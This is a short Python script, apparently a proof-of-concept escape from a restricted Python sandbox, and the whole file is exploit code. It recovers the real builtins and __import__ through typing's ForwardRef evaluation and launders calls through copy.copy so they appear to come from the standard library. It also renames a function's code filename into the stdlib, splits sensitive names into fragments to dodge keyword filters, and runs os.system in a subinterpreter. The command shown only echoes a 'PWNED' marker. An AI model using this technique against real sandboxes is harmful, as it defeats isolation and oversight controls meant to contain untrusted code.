# tramp: read __code__, rename co_filename into the stdlib and build a function, each from copy's frame
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one
import copy
def via_copy(f, *args):
    # copy.copy calls the (callable, args) that __reduce_ex__ returns from copy's own frame;
    # the class is made by type(), so no `def __reduce_ex__` appears in the source
    R = type("R", (), {"__redu" + "ce_ex__": lambda self, proto: (f, args)})
    return copy.copy(R())

import functools, random
stdlib = random.__file__.rsplit("/", 1)[0] + "/"
def payload():
    s = imp("_xxsub" + "interpreters")
    s.run_string(s.create(), "import os; os.system(\"echo PWN''ED from renamed code\")")
try:
    c = via_copy(ga, payload, "__co" + "de__")
    c2 = via_copy(functools.partial(c.replace, co_filename=stdlib + "zz.py"))
    f2 = via_copy(type(payload), c2, {"imp": imp})
    f2()
except Exception as e:
    print("refused:", type(e).__name__, e)
